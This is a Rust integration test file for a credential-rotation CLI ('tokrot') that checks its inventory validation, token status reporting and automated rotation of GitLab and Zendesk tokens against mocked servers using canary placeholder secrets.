//! The inventory through the binary: a team's dozen credentials across GitLab and two Zendesk
//! instances (`tests/fixtures/inventory/team.toml`), against stand-in servers: `inventory
//! check`, `status`, and `rotate --credential`.

use serde_json::json;
use wiremock::matchers::{method, path, path_regex, query_param};
use wiremock::{Mock, MockServer, ResponseTemplate};

use crate::common::{Env, day, fixture, scan, stderr, stdout};

const CALLER: &str = "glpat-caller-CANARY-in01";
const ZD_SUPPORT: &str = "zdsuppCANARY-in02x";
const ZD_FEDERAL: &str = "zdfedCANARY-in03xy";

fn token(id: u64, name: &str, expires: Option<i64>) -> serde_json::Value {
    // As GitLab answers: a token past its expiry is not active.
    let active = expires.is_none_or(|d| d > 0);
    json!({"id": id, "name": name, "active": active, "scopes": ["api"],
           "expires_at": expires.map(day), "last_used_at": format!("{}T08:00:00Z", day(-2))})
}

/// Two stand-in servers: `gitlab` answers as GitLab and as the `support` Zendesk instance,
/// `federal` as the second instance; a HOME whose config names both instances and whose
/// `tokrot.toml` is the team's inventory.
pub struct Team {
    pub gitlab: MockServer,
    pub federal: MockServer,
    pub env: Env,
}

async fn get(server: &MockServer, at: &str, body: serde_json::Value) {
    Mock::given(method("GET"))
        .and(path(at))
        .respond_with(ResponseTemplate::new(200).set_body_json(body))
        .with_priority(2)
        .mount(server)
        .await;
}

impl Team {
    pub async fn new() -> Self {
        let (gitlab, federal) = (MockServer::start().await, MockServer::start().await);
        let env = Env::new();
        env.write(
            ".config/tokrot/config.toml",
            &format!(
                "[zendesk.instances.support]\nurl = \"{}\"\n[zendesk.instances.federal]\nurl = \"{}\"\n",
                gitlab.uri(),
                federal.uri()
            ),
        );
        let text = std::fs::read_to_string(fixture("inventory/team.toml")).unwrap();
        env.write("team/tokrot.toml", &text);
        let team = Self {
            gitlab,
            federal,
            env,
        };
        team.mount_tokens().await;
        team.mount_targets().await;
        team.login().await;
        team
    }

    async fn mount_tokens(&self) {
        let g = &self.gitlab;
        get(g, "/api/v4/user", json!({"id": 1, "username": "ops"})).await;
        get(
            g,
            "/api/v4/personal_access_tokens/42",
            token(42, "zendesk-sync", Some(5)),
        )
        .await;
        get(
            g,
            "/api/v4/personal_access_tokens/43",
            token(43, "triage-bot", Some(200)),
        )
        .await;
        get(
            g,
            "/api/v4/personal_access_tokens/44",
            token(44, "legacy-bot", Some(-3)),
        )
        .await;
        Mock::given(method("GET"))
            .and(path("/api/v4/personal_access_tokens"))
            .and(query_param("search", "hook-bot"))
            .respond_with(ResponseTemplate::new(200).set_body_json(json!([token(
                46,
                "hook-bot",
                Some(30)
            )])))
            .with_priority(1)
            .mount(g)
            .await;
        get(
            g,
            "/api/v4/personal_access_tokens",
            json!([
                token(42, "zendesk-sync", Some(5)),
                token(43, "triage-bot", Some(200)),
                token(46, "hook-bot", Some(30)),
                token(45, "forgotten", Some(40)),
            ]),
        )
        .await;
        get(
            g,
            "/api/v4/projects/support%2Fzd-sync/access_tokens/50",
            token(50, "sync-project", Some(90)),
        )
        .await;
        get(
            g,
            "/api/v4/projects/support%2Fzd-sync/access_tokens",
            json!([token(50, "sync-project", Some(90))]),
        )
        .await;
        get(
            g,
            "/api/v4/groups/support/access_tokens/60",
            token(60, "support-group", Some(10)),
        )
        .await;
        get(
            g,
            "/api/v4/groups/support/access_tokens",
            json!([token(60, "support-group", Some(10))]),
        )
        .await;
        let trigger = |id: u64, description: &str| json!({"id": id, "description": description, "last_used": null, "token": "4f6a"});
        get(
            g,
            "/api/v4/projects/support%2Fpipelines/triggers/9",
            trigger(9, "support webhook"),
        )
        .await;
        get(
            g,
            "/api/v4/projects/support%2Fpipelines/triggers/10",
            trigger(10, "federal webhook"),
        )
        .await;
        get(
            g,
            "/api/v4/projects/support%2Fpipelines/triggers",
            json!([
                trigger(9, "support webhook"),
                trigger(10, "federal webhook")
            ]),
        )
        .await;
        // Every other list is empty.
        Mock::given(method("GET"))
            .and(path_regex(
                r"^/api/v4/(projects|groups)/[^/]+/(access_tokens|triggers)$",
            ))
            .respond_with(ResponseTemplate::new(200).set_body_json(json!([])))
            .with_priority(10)
            .mount(g)
            .await;
        let oauth = |id: u64, client: u64, expires: i64| {
            json!({"id": id, "client_id": client, "token": "af3345kdj3",
            "scopes": ["read"], "expires_at": format!("{}T00:00:00Z", day(expires)), "used_at": null})
        };
        for (server, id, client, expires, me) in [
            (g, 900, 223443, 60, "support"),
            (&self.federal, 901, 5, 3, "federal"),
        ] {
            Mock::given(method("GET"))
                .and(path("/api/v2/oauth/tokens"))
                .and(query_param("client_id", client.to_string().as_str()))
                .respond_with(ResponseTemplate::new(200).set_body_json(
                    json!({"tokens": [oauth(id, client, expires)], "meta": {"has_more": false}}),
                ))
                .with_priority(1)
                .mount(server)
                .await;
            let mut all = vec![oauth(id, client, expires)];
            if me == "federal" {
                all.push(oauth(999, 7, 20));
            }
            get(
                server,
                "/api/v2/oauth/tokens",
                json!({"tokens": all, "meta": {"has_more": false}}),
            )
            .await;
            get(server, "/api/v2/users/me", json!({"user": {"id": 5, "email": format!("ops@{me}.example.com"), "role": "admin"}})).await;
        }
    }

    /// What the targets' preflight reads: every variable exists (its key echoed), and so do the
    /// app installation, the webhooks and the project hook.
    async fn mount_targets(&self) {
        Mock::given(method("GET"))
            .and(path_regex(
                r"^/api/v4/(projects|groups)/[^/]+/variables/[A-Z_]+$",
            ))
            .respond_with(EchoVariable)
            .with_priority(5)
            .mount(&self.gitlab)
            .await;
        // As Zendesk answers: the app's token is a secure setting, never shown; the app's
        // parameters say it exists and is secure.
        get(
            &self.gitlab,
            "/api/v2/apps/installations/360001.json",
            json!({"id": 360001, "app_id": 9, "settings": {"name": "GitLab Sync"}}),
        )
        .await;
        get(
            &self.gitlab,
            "/api/v2/apps/9.json",
            json!({"id": 9, "name": "GitLab Sync", "parameters": [
                {"name": "name", "secure": false}, {"name": "api_token", "secure": true}]}),
        )
        .await;
        get(
            &self.gitlab,
            "/api/v4/projects/support%2Fzd-sync/hooks/7",
            json!({"id": 7, "url": "https://hooks.example.com/gitlab"}),
        )
        .await;
        // One webhook calls GitLab itself, the other the relay its entry allows.
        for (server, id, host) in [
            (&self.gitlab, "01WEBHOOKSUPPORT", self.gitlab.uri()),
            (
                &self.federal,
                "01WEBHOOKFEDERAL",
                "https://relay.federal.example".to_owned(),
            ),
        ] {
            get(server, &format!("/api/v2/webhooks/{id}"), json!({"webhook": {"id": id, "name": "start pipeline",
                "endpoint": format!("{host}/api/v4/projects/77/trigger/pipeline?token=OLDTRIG-in04&ref=main")}})).await;
        }
    }

    /// Keeps a Zendesk credential for each instance in the keyring (two instances: the
    /// environment's would belong to neither).
    async fn login(&self) {
        for (instance, secret) in [("support", ZD_SUPPORT), ("federal", ZD_FEDERAL)] {
            let out = self
                .env
                .tokrot()
                .args(["auth", "login", "zendesk", "--instance", instance])
                .args(["--email", "ops@example.com", "--token-stdin"])
                .write_stdin(format!("{secret}\n"))
                .output()
                .unwrap();
            assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        }
    }

    /// `tokrot` in the team's directory, with GitLab's credential.
    pub fn tokrot(&self) -> assert_cmd::Command {
        let mut cmd = self.env.tokrot();
        cmd.current_dir(self.env.path().join("team"))
            .env("GITLAB_TOKEN", CALLER)
            .args(["--gitlab-url", &self.gitlab.uri()]);
        cmd
    }

    /// The secrets the team's credentials are.
    pub fn secrets() -> [&'static str; 3] {
        [CALLER, ZD_SUPPORT, ZD_FEDERAL]
    }
}

/// The keyring is the test process's, and keyed by origin: a port another test gets later must
/// not find this team's credentials there. Logged out while the servers still hold their ports.
impl Drop for Team {
    fn drop(&mut self) {
        for instance in ["support", "federal"] {
            let _ = self
                .env
                .tokrot()
                .args(["auth", "logout", "zendesk", "--instance", instance])
                .output();
        }
    }
}

/// Answers a variable read with the key asked for.
struct EchoVariable;

impl wiremock::Respond for EchoVariable {
    fn respond(&self, request: &wiremock::Request) -> ResponseTemplate {
        let key = request
            .url
            .path()
            .rsplit('/')
            .next()
            .unwrap_or_default()
            .to_owned();
        ResponseTemplate::new(200).set_body_json(json!({"key": key, "value": "old-value-in05",
            "variable_type": "env_var", "protected": false, "masked": false, "hidden": false,
            "raw": false, "environment_scope": "*"}))
    }
}

#[tokio::test]
async fn inventory_check_runs_every_credentials_preflight_and_names_the_one_that_fails() {
    let team = Team::new().await;
    // triage-bot's variable is gone (and legacy-bot's token has expired).
    Mock::given(method("GET"))
        .and(path(
            "/api/v4/projects/support%2Ftriage/variables/GITLAB_TOKEN",
        ))
        .respond_with(
            ResponseTemplate::new(404).set_body_json(json!({"message": "404 Variable Not Found"})),
        )
        .with_priority(1)
        .mount(&team.gitlab)
        .await;
    let out = team.tokrot().args(["inventory", "check"]).output().unwrap();
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
    let text = stdout(&out);
    assert_eq!(
        text.lines().filter(|l| l.starts_with("ok ")).count(),
        10,
        "{text}"
    );
    let failed: Vec<&str> = text.lines().filter(|l| l.starts_with("FAILED")).collect();
    assert_eq!(failed.len(), 2, "{text}");
    assert!(
        failed
            .iter()
            .any(|f| f.contains("triage-bot") && f.contains("404")),
        "{text}"
    );
    assert!(
        failed
            .iter()
            .any(|f| f.contains("legacy-bot") && f.contains("--token-stdin")),
        "{text}"
    );
    assert!(
        text.contains("12 credential(s) in tokrot.toml: 10 ok, 2 failed"),
        "{text}"
    );
    let writes = team
        .gitlab
        .received_requests()
        .await
        .unwrap()
        .iter()
        .filter(|r| r.method.as_str() != "GET")
        .count();
    assert_eq!(writes, 0, "a check changes nothing");
    // The app's secure setting passes its check, said to be write-only; a setting the app does
    // not have fails it, naming the app's parameters (also with --dry-run).
    assert!(
        text.contains("ok ") && !text.contains("not confirmed"),
        "{text}"
    );
    let dry = team
        .tokrot()
        .args(["--dry-run", "rotate", "--credential", "zendesk-sync"])
        .output()
        .unwrap();
    assert_eq!(dry.status.code(), Some(0), "{}", stderr(&dry));
    assert!(
        format!("{}{}", stdout(&dry), stderr(&dry))
            .contains("`api_token` is a secure parameter of GitLab Sync"),
        "{}",
        stderr(&dry)
    );
    let typo = std::fs::read_to_string(team.env.path().join("team/tokrot.toml"))
        .unwrap()
        .replace("360001:api_token", "360001:api_tokn");
    team.env.write("typo.toml", &typo);
    for args in [
        &["inventory", "check"][..],
        &["--dry-run", "rotate", "--credential", "zendesk-sync"],
    ] {
        let out = team
            .tokrot()
            .arg("--inventory")
            .arg(team.env.path().join("typo.toml"))
            .args(args)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
        let said = format!("{}{}", stdout(&out), stderr(&out));
        assert!(
            said.contains("GitLab Sync (installation 360001) has no setting `api_tokn`; its parameters: name, api_token (secure)"),
            "{args:?}: {said}"
        );
    }

    // A broken inventory is refused with where, and a secret in it is refused without showing it.
    team.env.write("bad.toml", "[[credential]]\nname = \"x\"\nrunbook = \"gitlab-pat\"\nparams = { token_id = \"glpat-SECRET-in06-abcdefgh\" }\n");
    let bad = team
        .tokrot()
        .arg("--inventory")
        .arg(team.env.path().join("bad.toml"))
        .args(["inventory", "check"])
        .output()
        .unwrap();
    assert_eq!(bad.status.code(), Some(2));
    assert!(
        stderr(&bad).contains("bad.toml:4:23: `token_id` looks like a token"),
        "{}",
        stderr(&bad)
    );
    assert!(!stderr(&bad).contains("SECRET"), "{}", stderr(&bad));
    std::fs::remove_file(team.env.path().join("bad.toml")).unwrap();
    scan(&team.env, &[&out, &bad], &Team::secrets());
}

#[tokio::test]
async fn status_colours_what_needs_acting_on_only_where_colour_is_asked_for() {
    let team = Team::new().await;
    // Piped, colour only when forced: due yellow, expired red, the table still aligned.
    let forced = team
        .tokrot()
        .env_remove("NO_COLOR")
        .env("CLICOLOR_FORCE", "1")
        // A width, as a terminal has: the table is laid out with its header.
        .env("COLUMNS", "400")
        .arg("status")
        .output()
        .unwrap();
    let text = stdout(&forced);
    assert!(text.contains("\u{1b}[33mdue\u{1b}[0m"), "{text}");
    assert!(text.contains("\u{1b}[31mexpired\u{1b}[0m"), "{text}");
    let lines: Vec<&str> = text.lines().collect();
    let at = |line: &str, word: &str| {
        console::strip_ansi_codes(line)
            .find(word)
            .unwrap_or_else(|| panic!("{word} in {line}"))
    };
    let header = at(lines[0], "STATE");
    let due = lines.iter().find(|l| l.contains("zendesk-sync")).unwrap();
    assert_eq!(
        at(due, "due"),
        header,
        "the STATE column stays aligned:\n{text}"
    );
    // NO_COLOR with any value, even 0, wins.
    for no_color in ["1", "0"] {
        let plain = team
            .tokrot()
            .env("NO_COLOR", no_color)
            .env("CLICOLOR_FORCE", "1")
            .arg("status")
            .output()
            .unwrap();
        assert!(!stdout(&plain).contains('\u{1b}'), "NO_COLOR={no_color}");
    }
    // Piped and not forced: none.
    let piped = team
        .tokrot()
        .env_remove("NO_COLOR")
        .arg("status")
        .output()
        .unwrap();
    assert!(!stdout(&piped).contains('\u{1b}'));
    assert_eq!(piped.status.code(), forced.status.code());
}

#[tokio::test]
async fn status_shows_every_token_soonest_first_with_the_due_the_expired_and_the_unlisted() {
    let team = Team::new().await;
    let out = team
        .tokrot()
        .args(["status", "--output", "json"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let v: serde_json::Value = crate::common::json_doc(&out);
    let rows = v["tokens"].as_array().unwrap();
    let state = |name: &str| {
        rows.iter()
            .find(|r| r["name"] == name)
            .unwrap_or_else(|| panic!("no row {name}: {v:#}"))["state"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    assert_eq!(state("legacy-bot"), "expired");
    assert_eq!(state("zendesk-sync"), "due");
    assert_eq!(state("support-group"), "due");
    assert_eq!(state("federal-oauth"), "due");
    assert_eq!(state("triage-bot"), "ok");
    assert_eq!(state("hook-bot"), "ok");
    assert_eq!(state("support-oauth"), "ok");
    assert_eq!(state("ticket-trigger"), "no-expiry");
    // Every Zendesk API token stops on 2027-04-30, whatever the inventory says.
    let api_end = jiff::civil::date(2027, 4, 30);
    let api_state = match crate::common::today().until(api_end).unwrap().get_days() {
        ..=0 => "expired",
        1..=14 => "due",
        _ => "ok",
    };
    assert_eq!(state("support-api"), api_state);
    assert_eq!(state("forgotten"), "unlisted");
    assert_eq!(state("OAuth token 999"), "unlisted");
    // Listed tokens are not listed twice as unlisted.
    assert_eq!(rows.iter().filter(|r| r["id"] == 42).count(), 1, "{v:#}");
    assert_eq!(rows.iter().filter(|r| r["id"] == 50).count(), 1, "{v:#}");
    assert_eq!(rows.len(), 14, "{v:#}");
    // Soonest first: what has expired, then what is due (a year on, the Zendesk API tokens'
    // end date has passed and they come first).
    let first: &[&str] = match api_state {
        "expired" => &["federal-api", "support-api"],
        _ => &["legacy-bot"],
    };
    assert!(first.iter().any(|n| rows[0]["name"] == *n), "{v:#}");
    assert_eq!(rows[0]["state"], "expired", "{v:#}");
    let expiries: Vec<i64> = rows
        .iter()
        .filter_map(|r| r["days_left"].as_i64())
        .collect();
    assert!(expiries.windows(2).all(|w| w[0] <= w[1]), "{expiries:?}");
    // Where each is used, and whether it can be rotated unattended.
    let sync = rows.iter().find(|r| r["name"] == "zendesk-sync").unwrap();
    assert_eq!(sync["consumers"][1], "zendesk-app:support:360001:api_token");
    assert_eq!(sync["unattended"], true);
    // A consumer allowed to carry the token elsewhere is marked.
    let relayed = rows
        .iter()
        .find(|r| r["name"] == "federal-trigger")
        .unwrap();
    assert_eq!(
        relayed["relays"],
        json!([{"spec": "zendesk-webhook:federal:01WEBHOOKFEDERAL", "host": "relay.federal.example"}]),
        "{v:#}"
    );
    let api = rows.iter().find(|r| r["name"] == "support-api").unwrap();
    assert_eq!(api["unattended"], false, "a pasted token needs a human");

    // The text table, and --check for a scheduled pipeline.
    let text = team.tokrot().args(["status", "--check"]).output().unwrap();
    assert_eq!(text.status.code(), Some(1), "{}", stderr(&text));
    // Piped: a token a line, its nine values tab-separated, none cut.
    let table = stdout(&text);
    assert!(!table.starts_with("NAME"), "{table}");
    assert!(table.lines().all(|l| l.split('\t').count() == 9), "{table}");
    assert!(table.contains("(via relay.federal.example)"), "{table}");
    let needing = rows
        .iter()
        .filter(|r| r["state"] == "expired" || r["state"] == "due")
        .count();
    assert_eq!(needing, if api_state == "ok" { 4 } else { 6 }, "{v:#}");
    assert!(
        stderr(&text).contains(&format!("{needing} token(s) expired or due")),
        "{}",
        stderr(&text)
    );
    let narrow = team
        .tokrot()
        .args(["status", "--check", "--within", "0"])
        .output()
        .unwrap();
    assert_eq!(
        narrow.status.code(),
        Some(1),
        "the expired one is still there"
    );
    scan(&team.env, &[&out, &text, &narrow], &Team::secrets());
}

/// A resource whose writes are kept: a PUT's JSON body is merged into what a GET answers.
#[derive(Clone)]
struct Kept(std::sync::Arc<std::sync::Mutex<serde_json::Value>>);

impl wiremock::Respond for Kept {
    fn respond(&self, request: &wiremock::Request) -> ResponseTemplate {
        let mut now = self.0.lock().unwrap();
        if request.method.as_str() == "PUT" {
            let body: serde_json::Value = serde_json::from_slice(&request.body).unwrap();
            for (k, v) in body.as_object().unwrap() {
                match (now.get_mut(k), v) {
                    (Some(serde_json::Value::Object(old)), serde_json::Value::Object(new)) => {
                        old.extend(new.clone());
                    }
                    _ => {
                        now[k] = v.clone();
                    }
                }
            }
        }
        ResponseTemplate::new(200).set_body_json(now.clone())
    }
}

const NEW: &str = "glpat-NEW-CANARY-in07";

#[tokio::test]
async fn rotate_credential_takes_everything_from_the_inventory_and_writes_the_new_id_back() {
    let team = Team::new().await;
    let g = &team.gitlab;
    Mock::given(method("POST"))
        .and(path("/api/v4/personal_access_tokens/42/rotate"))
        .respond_with(ResponseTemplate::new(200).set_body_json(
            json!({"id": 5001, "name": "zendesk-sync", "token": NEW, "expires_at": day(90), "active": true}),
        ))
        .expect(1)
        .mount(g)
        .await;
    Mock::given(method("GET"))
        .and(path("/api/v4/personal_access_tokens/self"))
        .respond_with(ResponseTemplate::new(200).set_body_json(token(
            5001,
            "zendesk-sync",
            Some(90),
        )))
        .mount(g)
        .await;
    let variable = Kept(std::sync::Arc::new(std::sync::Mutex::new(
        json!({"key": "API_TOKEN",
        "value": "old-value-in05", "variable_type": "env_var", "protected": false, "masked": false,
        "hidden": false, "raw": false, "environment_scope": "*"}),
    )));
    Mock::given(path(
        "/api/v4/projects/support%2Fzd-sync/variables/API_TOKEN",
    ))
    .and(method("GET"))
    .respond_with(variable.clone())
    .with_priority(1)
    .mount(g)
    .await;
    Mock::given(path(
        "/api/v4/projects/support%2Fzd-sync/variables/API_TOKEN",
    ))
    .and(method("PUT"))
    .respond_with(variable.clone())
    .with_priority(1)
    .expect(1)
    .mount(g)
    .await;
    let app = Kept(std::sync::Arc::new(std::sync::Mutex::new(
        json!({"id": 360001, "app_id": 9,
        "settings": {"name": "GitLab Sync", "api_token": "old"}}),
    )));
    Mock::given(path("/api/v2/apps/installations/360001.json"))
        .and(method("GET"))
        .respond_with(app.clone())
        .with_priority(1)
        .mount(g)
        .await;
    Mock::given(path("/api/v2/apps/installations/360001.json"))
        .and(method("PUT"))
        .respond_with(app.clone())
        .with_priority(1)
        .expect(1)
        .mount(g)
        .await;

    let before = std::fs::read_to_string(team.env.path().join("team/tokrot.toml")).unwrap();
    let out = team
        .tokrot()
        .args(["--yes", "rotate", "--credential", "zendesk-sync"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(variable.0.lock().unwrap()["value"], NEW);
    assert_eq!(app.0.lock().unwrap()["settings"]["api_token"], NEW);
    assert!(
        stderr(&out)
            .contains("credential `zendesk-sync` now names the new token: token_id 42 → 5001"),
        "{}",
        stderr(&out)
    );
    // The one value changed; comments and layout kept.
    let after = std::fs::read_to_string(team.env.path().join("team/tokrot.toml")).unwrap();
    assert_eq!(
        after,
        before.replace(
            "params = { token_id = \"42\" }   # the sync bot's token",
            "params = { token_id = \"5001\" }   # the sync bot's token"
        )
    );
    // The journal names the credential, the old id and the new one.
    let dir = team.env.path().join(".local/state/tokrot/rotations");
    let journal: serde_json::Value = serde_json::from_slice(
        &std::fs::read(
            std::fs::read_dir(&dir)
                .unwrap()
                .next()
                .unwrap()
                .unwrap()
                .path(),
        )
        .unwrap(),
    )
    .unwrap();
    assert_eq!(journal["credential"], "zendesk-sync");
    assert_eq!(journal["params"][0], json!(["token_id", "42"]));
    assert_eq!(journal["new_id"], 5001);

    // A second run reads the new id: nothing is rotated twice.
    get(
        g,
        "/api/v4/personal_access_tokens/5001",
        token(5001, "zendesk-sync", Some(90)),
    )
    .await;
    let status = team
        .tokrot()
        .args(["status", "--output", "json"])
        .output()
        .unwrap();
    let v: serde_json::Value = crate::common::json_doc(&status);
    let sync = v["tokens"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["name"] == "zendesk-sync" && r["state"] != "unlisted")
        .unwrap()
        .clone();
    assert_eq!(sync["id"], 5001, "{v:#}");

    let unknown = team
        .tokrot()
        .args(["rotate", "--credential", "nope"])
        .output()
        .unwrap();
    assert_eq!(unknown.status.code(), Some(2));
    assert!(
        stderr(&unknown).contains("has no credential `nope`; it has: zendesk-sync, triage-bot"),
        "{}",
        stderr(&unknown)
    );
    let mut secrets = Team::secrets().to_vec();
    secrets.push(NEW);
    scan(&team.env, &[&out, &status, &unknown], &secrets);
}

/// Answers a variable write with the variable as written (GitLab's answer holds the value).
struct EchoWrite;

impl wiremock::Respond for EchoWrite {
    fn respond(&self, request: &wiremock::Request) -> ResponseTemplate {
        let key = request
            .url
            .path()
            .rsplit('/')
            .next()
            .unwrap_or_default()
            .to_owned();
        let body: serde_json::Value = serde_json::from_slice(&request.body).unwrap_or_default();
        ResponseTemplate::new(200).set_body_json(json!({"key": key, "value": body["value"],
            "variable_type": "env_var", "protected": false, "masked": false, "hidden": false,
            "raw": false, "environment_scope": "*"}))
    }
}

/// A Zendesk OAuth rotation of `client`'s token `old`: the new token `new_id` is made once,
/// checked, and the old one revoked once.
async fn mount_oauth_rotation(server: &MockServer, client: u64, old: u64, new_id: u64, new: &str) {
    Mock::given(method("POST"))
        .and(path("/api/v2/oauth/tokens"))
        .respond_with(
            ResponseTemplate::new(201).set_body_json(json!({"token": {"id": new_id,
            "client_id": client, "token": new, "scopes": ["read"]}})),
        )
        .expect(1)
        .mount(server)
        .await;
    Mock::given(method("GET"))
        .and(path("/api/v2/oauth/tokens/current.json"))
        .respond_with(
            ResponseTemplate::new(200)
                .set_body_json(json!({"token": {"id": new_id, "scopes": ["read"]}})),
        )
        .mount(server)
        .await;
    Mock::given(method("DELETE"))
        .and(path(format!("/api/v2/oauth/tokens/{old}")))
        .respond_with(ResponseTemplate::new(204))
        .expect(1)
        .mount(server)
        .await;
}

#[tokio::test]
async fn rotate_due_runs_each_due_credential_as_its_own_rotation_and_skips_the_human_ones() {
    let team = Team::new().await;
    let g = &team.gitlab;
    Mock::given(method("PUT"))
        .and(path_regex(
            r"^/api/v4/(projects|groups)/[^/]+/variables/[A-Z_]+$",
        ))
        .respond_with(EchoWrite)
        .expect(5)
        .mount(g)
        .await;
    let app = Kept(std::sync::Arc::new(std::sync::Mutex::new(
        json!({"id": 360001, "app_id": 9,
        "settings": {"name": "GitLab Sync", "api_token": "old"}}),
    )));
    Mock::given(path("/api/v2/apps/installations/360001.json"))
        .and(method("GET"))
        .respond_with(app.clone())
        .with_priority(1)
        .mount(g)
        .await;
    Mock::given(path("/api/v2/apps/installations/360001.json"))
        .and(method("PUT"))
        .respond_with(app.clone())
        .with_priority(1)
        .expect(1)
        .mount(g)
        .await;
    // zendesk-sync (due) and support-group (due) rotate; legacy-bot (expired) is not tried:
    // GitLab refuses to rotate an expired token, so the batch points at the manual route.
    Mock::given(method("POST"))
        .and(path("/api/v4/personal_access_tokens/42/rotate"))
        .respond_with(ResponseTemplate::new(200).set_body_json(
            json!({"id": 5001, "name": "zendesk-sync", "token": NEW, "expires_at": day(90), "active": true})))
        .expect(1)
        .mount(g)
        .await;
    Mock::given(method("POST"))
        .and(path("/api/v4/personal_access_tokens/44/rotate"))
        .respond_with(
            ResponseTemplate::new(400)
                .set_body_json(json!({"message": "400 Bad request - Token expired"})),
        )
        .expect(0)
        .mount(g)
        .await;
    Mock::given(method("POST"))
        .and(path("/api/v4/groups/support/access_tokens/60/rotate"))
        .respond_with(ResponseTemplate::new(200).set_body_json(
            json!({"id": 6001, "name": "support-group", "token": "glpat-GROUP-CANARY-in08", "expires_at": day(90), "active": true})))
        .expect(1)
        .mount(g)
        .await;
    Mock::given(method("GET"))
        .and(path("/api/v4/personal_access_tokens/self"))
        .respond_with(ResponseTemplate::new(200).set_body_json(token(
            5001,
            "zendesk-sync",
            Some(90),
        )))
        .mount(g)
        .await;
    get(
        g,
        "/api/v4/groups/support",
        json!({"id": 77, "full_path": "support"}),
    )
    .await;
    // Within 160 days: hook-bot (a webhook), support-oauth and sync-project too.
    get(
        g,
        "/api/v4/personal_access_tokens/46",
        token(46, "hook-bot", Some(30)),
    )
    .await;
    Mock::given(method("POST"))
        .and(path("/api/v4/personal_access_tokens/46/rotate"))
        .respond_with(ResponseTemplate::new(200).set_body_json(
            json!({"id": 4601, "name": "hook-bot", "token": "glpat-HOOK-CANARY-in12", "expires_at": day(90), "active": true})))
        .expect(1)
        .mount(g)
        .await;
    Mock::given(method("PUT"))
        .and(path("/api/v4/projects/support%2Fzd-sync/hooks/7"))
        .respond_with(
            ResponseTemplate::new(200)
                .set_body_json(json!({"id": 7, "url": "https://hooks.example.com/gitlab"})),
        )
        .expect(1)
        .mount(g)
        .await;
    Mock::given(method("POST"))
        .and(path("/api/v4/projects/support%2Fzd-sync/access_tokens/50/rotate"))
        .respond_with(ResponseTemplate::new(200).set_body_json(
            json!({"id": 5050, "name": "sync-project", "token": "glpat-PROJ-CANARY-in13", "expires_at": day(90), "active": true})))
        .expect(1)
        .mount(g)
        .await;
    get(
        g,
        "/api/v4/projects/support%2Fzd-sync",
        json!({"id": 88, "path_with_namespace": "support/zd-sync"}),
    )
    .await;
    mount_oauth_rotation(g, 223443, 900, 9002, "zdsuppnewCANARY-in14").await;
    // federal-oauth (due): a new token, checked, applied, then the old one revoked.
    mount_oauth_rotation(&team.federal, 5, 901, 9001, "zdnewCANARY-in09xyz").await;

    // The plan first, changing nothing; a wider window makes the pasted Zendesk API tokens due,
    // and those need a human.
    let plan = team
        .tokrot()
        .args(["--dry-run", "rotate", "--due", "--within", "200"])
        .output()
        .unwrap();
    assert_eq!(plan.status.code(), Some(0), "{}", stderr(&plan));
    let said = stderr(&plan);
    assert!(
        said.contains("skipped: support-api (zendesk-api) needs a human"),
        "{said}"
    );
    assert!(
        said.contains("skipped: federal-api (zendesk-api) needs a human"),
        "{said}"
    );
    // The plan is a table with its header, whole in a log (stderr is no terminal here).
    assert!(said.contains("\nNAME  "), "{said}");
    assert!(
        said.lines().any(|l| l.starts_with("triage-bot ")
            && l.contains(" gitlab-pat ")
            && l.ends_with(" gitlab-ci-var:support/triage:GITLAB_TOKEN")),
        "{said}"
    );

    let out = team
        .tokrot()
        .args([
            "--yes", "--output", "json", "rotate", "--due", "--within", "160",
        ])
        .output()
        .unwrap();
    let v: serde_json::Value = crate::common::json_doc(&out);
    assert_eq!(v["dry_run"], false);
    assert_eq!(v["due_within_days"], 160);
    assert!(v["unread"].as_array().unwrap().is_empty(), "{v:#}");
    assert_eq!(
        v["due"].as_array().unwrap().len(),
        v["rotations"].as_array().unwrap().len(),
        "each due credential is one rotation: {v:#}"
    );
    let code = |name: &str| {
        v["rotations"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["credential"] == name)
            .unwrap_or_else(|| panic!("no {name}: {v:#}"))["exit_code"]
            .as_i64()
            .unwrap()
    };
    for unattended in [
        "zendesk-sync",
        "support-group",
        "federal-oauth",
        "hook-bot",
        "support-oauth",
        "sync-project",
    ] {
        assert_eq!(code(unattended), 0, "{unattended}: {v:#}");
    }
    assert_eq!(v["rotations"].as_array().unwrap().len(), 6, "{v:#}");
    // Within 160 days the pasted Zendesk API tokens are due too: a human makes those; the
    // expired token is made anew by hand. Each is named with why.
    let mut skipped: Vec<&str> = v["skipped"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n.as_str().unwrap())
        .collect();
    skipped.sort_unstable();
    assert_eq!(
        skipped,
        ["federal-api", "legacy-bot", "support-api"],
        "{v:#}"
    );
    let reason = |name: &str| {
        v["not_rotated"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["name"] == name)
            .unwrap_or_else(|| panic!("{name} not named: {v:#}"))["reason"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    assert!(reason("legacy-bot").contains("--token-stdin"), "{v:#}");
    assert!(reason("support-api").contains("needs a human"), "{v:#}");
    // Every rotation that ran succeeded, yet due credentials were not rotated: the batch
    // fails, so that a scheduled job is red. Every rotation has its own journal.
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_eq!(v["exit_code"], 1);
    let journals = std::fs::read_dir(team.env.path().join(".local/state/tokrot/rotations"))
        .unwrap()
        .count();
    assert_eq!(journals, 6);
    // Each new id is in the inventory, written by runs that ended side by side.
    let after = std::fs::read_to_string(team.env.path().join("team/tokrot.toml")).unwrap();
    assert!(
        after.contains("token_id = \"5001\" }   # the sync bot's token"),
        "{after}"
    );
    assert!(
        after.contains("group = \"support\", token_id = \"6001\""),
        "{after}"
    );
    assert!(after.contains("old_token_id = \"9001\""), "{after}");
    assert!(after.contains("token_id = \"44\""), "{after}");
    let mut secrets = Team::secrets().to_vec();
    secrets.extend([
        NEW,
        "glpat-GROUP-CANARY-in08",
        "zdnewCANARY-in09xyz",
        "glpat-HOOK-CANARY-in12",
        "glpat-PROJ-CANARY-in13",
